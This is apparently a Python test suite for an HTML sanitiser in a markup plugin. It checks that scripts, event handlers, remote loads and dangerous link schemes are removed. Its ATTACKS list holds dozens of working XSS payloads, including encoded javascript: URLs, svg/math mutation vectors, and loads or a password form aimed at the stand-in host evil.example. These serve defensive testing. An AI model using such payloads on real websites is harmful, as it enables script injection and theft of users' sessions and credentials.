"""
Nothing that can run, load or restyle survives in the words of a text.
"""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plugins.markup.safe import ATTRIBUTES, TAGS, clean, clean_at_a_glance

SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
BLANKS = "".join(map(chr, range(33)))
"""What browsers pass over before an address (WHATWG URL, section 4.4); line breaks and tabs also within it."""


class Seen(HTMLParser):
    """Every tag and every attribute of some HTML, as a browser would meet them."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


THAT_RUN_OR_LOAD = (
    "script style link meta base iframe frame object embed applet svg math img image picture source audio video track form input button select "
    "textarea template noscript portal canvas"
)
RUN_OR_LOAD = set(THAT_RUN_OR_LOAD.split())
RESTYLE_OR_NAME = {
    "style",
    "class",
    "src",
    "srcset",
    "name",
    "target",
    "ping",
    "action",
    "formaction",
    "data",
    "poster",
    "xlink:href",
}


OURS = {"data-quote", "data-claim", "data-said", "data-reach", "data-part", "data-chart"}
"""Marks of our own blocks: what else they say is refused by the checks, and nothing in the theme reads them."""


def test_what_is_allowed_is_words_and_their_structure():
    allowed = set().union(*ATTRIBUTES.values())

    assert set() == RUN_OR_LOAD & TAGS
    assert set() == RESTYLE_OR_NAME & allowed
    assert not [name for name in allowed if name.startswith(("on", "data-")) and name not in OURS]
    assert {"a"} == {tag for tag, names in ATTRIBUTES.items() if "href" in names}


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif" width=1 height=1>',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><maction actiontype='statusline#https://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://example.org/x'>x</a>",
    "<a href='https://example.org/' onclick='alert(1)' onmouseover='alert(1)' target='_blank' ping='https://evil.example'>x</a>",
    "<a href='https://example.org/' style='position:fixed;inset:0'>x</a>",
    "<a href='https://example.org/' class='button' id='main' name='main' rel='opener'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<audio src='https://evil.example/x.mp3' autoplay></audio>",
    "<video poster='https://evil.example/x.png'><source src='https://evil.example/x.mp4' onerror=alert(1)></video>",
    "<picture><source srcset='https://evil.example/x.png'></picture>",
    "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name='password'><button formaction='javascript:alert(1)'>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<html manifest='https://evil.example'>",
    "<table background='https://evil.example/x.png'><tr><td background='x' onclick=alert(1)>x</table>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<div onclick=alert(1)>x</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<plaintext><script>alert(1)</script>",
    "<portal src='https://evil.example'></portal>",
    "<slot name=x onslotchange=alert(1)></slot>",
    "<x-y onclick=alert(1)>x</x-y>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<p/onclick=alert(1)>x",
    "<p\x00 onclick=alert(1)>x",
    "<p onclick\x0b=alert(1)>x",
    "<a href='https://example.org/\" onclick=\"alert(1)'>x</a>",
    "<time datetime='\" onclick=\"alert(1)'>x</time>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<q cite='https://evil.example'>x</q><del cite='javascript:alert(1)'>x</del>",
    "<ol start='1' onclick=alert(1) type='x'><li value=3 onclick=alert(1)>x</ol>",
]


def assert_harmless(html):
    seen = Seen(html)
    assert seen.tags <= TAGS
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()), (tag, name)
        if name == "href":
            scheme = SCHEME.match(re.sub("[\t\r\n]", "", value.lstrip(BLANKS)))
            assert scheme is None or scheme[1].lower() in ("http", "https", "record"), value
    assert "<!--" not in html and "<?" not in html and "<![" not in html


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_survives(attack):
    assert_harmless(clean(attack))
    assert_harmless(clean(f"<p>before {attack} after</p>"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_clean_stays_as_it_is(attack):
    """
    Else a second cleaning could wake what the first put to sleep.
    """
    assert clean(attack) == clean(clean(attack))


PIECES = st.lists(
    st.sampled_from([
        "<", ">", "</", "/>", '"', "'", "=", "`", " ", "\n", "\t", "\x00", "a", "p", "svg", "math", "style", "script", "title", "table", "td",
        "template", "noscript", "mglyph", "<!--", "-->", "<![CDATA[", "]]>", "<?", "href", "onclick", "xlink:href", "javascript:", "alert(1)", "data:",
        "&lt;", "&#60;", "&colon;", "&", ";", "https://", "//", "<a href=", "<img src=x onerror=", "<svg><style>", "</style>", "é", "\u2028",
    ]),
    max_size=20,
).map("".join)  # fmt: skip


@given(PIECES)
def test_no_mixture_of_pieces_makes_anything_that_runs(html):
    assert_harmless(clean(html))


ADDRESSES = (
    "https://example.org/a/?b=c,d#e~f", "http://a.b-c.dd", "https://1.2.3.cc/", "https://xn--a.bb/", "https://a-.bb/", "https://a.xn--bb/", "https://a.b_c.dd/", "https://a.bb:80/",
    "https://a.bb/%zz", "https://a.bb//../c", "https://a.bb/\u200b", "https://a.1/", "https://a.b.1/", "https://a.0x1/", "record:story/a-b.c", "record:", "a.md", "javascript:alert(1)", "https:a.bb",
)  # fmt: skip

USUAL = st.lists(
    st.sampled_from([
        "<p>", "</p>", "<em>", "</em>", "<strong>", "</strong>", "<ul>", "</ul>", "<li>", "</li>", "</a>", "word", " ", "\n", '"', "'", "\t", "\r", "\0", "\x01", "\x0b",
        "\x0c", "\x85", "\xa0", "\u2028", "\ufeff", "&rsquo;", "’", "&", ">", "<", "é", "<p>word</p>", "<p><em>word</em></p>", "<ul>\n<li>a</li>\n</ul>",
        '<h2 id="part-a">', "</h2>", '<h3 id="é">a</h3>', '<h2 id="&rsquo;">a</h2>', '<data value="fact:F-a-001/2"></data>', '<a href="">', "<P>", "<p >", "<br>",
        *(f'<p><a href="{address}">a</a></p>' for address in ADDRESSES),
    ]),
    max_size=12,
).map("".join)  # fmt: skip


@settings(max_examples=500)
@given(USUAL)
def test_what_seems_clean_at_a_glance_is_what_cleaning_makes_of_it(html):
    found = clean_at_a_glance(html)

    assert found is None or found == clean(html)


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_that_seems_clean_at_a_glance_is_left_by_cleaning(address):
    """
    Some that look like others cannot be taken apart, and are taken out.
    """
    html = f'<p><a href="{address}">a</a></p>'

    assert clean_at_a_glance(html) in (None, clean(html))


def test_most_of_what_markdown_makes_is_clean_at_a_glance():
    """
    Otherwise the test before would compare nothing.
    """
    html = '<h2 id="part-a">A</h2>\n<p>It&rsquo;s <em>a</em> <a href="https://example.org/">b</a></p>\n<ul>\n<li>c</li>\n</ul>'

    assert clean(html) == clean_at_a_glance(html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_seems_clean_at_a_glance(attack):
    assert clean_at_a_glance(attack) is None


@pytest.mark.parametrize(
    "script", ["<script>alert(1)</script>", "<style>p{color:red}</style>", "<SCRIPT>alert(1)</SCRIPT>"]
)
def test_the_inside_of_scripts_and_styles_goes_with_them(script):
    assert "<p>ab</p>" == clean(f"<p>a{script}b</p>")


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<p>words</p>", "<p>words</p>"),
        ("<div class='x'>words</div>", "words"),
        ("<center>words</center>", "words"),
        ("<p lang=ar dir=rtl>قصة</p>", '<p lang="ar" dir="rtl">قصة</p>'),
        ("<a href='https://example.org/?a=1&amp;b=2'>x</a>", '<a href="https://example.org/?a=1&amp;b=2">x</a>'),
        ("<a href='record:penally'>x</a>", '<a href="record:penally">x</a>'),
        ("<a href='../stories/penally.md#part-x'>x</a>", '<a href="../stories/penally.md#part-x">x</a>'),
        ("<h2 id='part-a'>A</h2>", '<h2 id="part-a">A</h2>'),
        ("<ol start='3'><li>x</li></ol>", '<ol start="3"><li>x</li></ol>'),
        ("<table><thead><tr><th scope='col'>x</th></tr></thead></table>",
         '<table><thead><tr><th scope="col">x</th></tr></thead></table>'),
        ("<time datetime='2026-11-23'>today</time>", '<time datetime="2026-11-23">today</time>'),
        ("<details><summary>x</summary>y</details>", "<details><summary>x</summary>y</details>"),
        ("a & b < c > d", "a &amp; b &lt; c &gt; d"),
        ("&lt;script&gt;", "&lt;script&gt;"),
    ],
)  # fmt: skip
def test_words_structure_language_and_direction_stay(html, kept):
    assert kept == clean(html)


def test_a_heap_of_open_tags_is_no_danger():
    assert_harmless(clean("<div>" * 4_000 + "<b>" * 100))
